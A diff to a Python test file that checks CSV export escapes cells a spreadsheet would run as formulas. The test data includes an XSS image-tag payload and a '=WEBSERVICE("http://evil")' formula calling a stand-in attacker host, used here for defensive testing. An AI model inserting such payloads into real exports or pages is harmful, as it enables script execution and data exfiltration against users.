@@ -278,6 +278,8 @@ def hostile_build(source: str = "<img src=x onerror=alert(1)>") -> Build:
 def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path: Path) -> None:
     text = parts_csv(make_plan(hostile_build('=WEBSERVICE("http://evil")')))
     rows = list(csv.reader(io.StringIO(text, newline="")))
+    rows, setting = rows[: rows.index([])], rows[rows.index([]) + 1 :]  # the parts; the build's setting after the blank
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in setting for cell in r)
     names = [r[1] for r in rows[1:]]
     for name, original in zip(names, HOSTILE, strict=True):
         if original[0] in "=+-@\t\r":
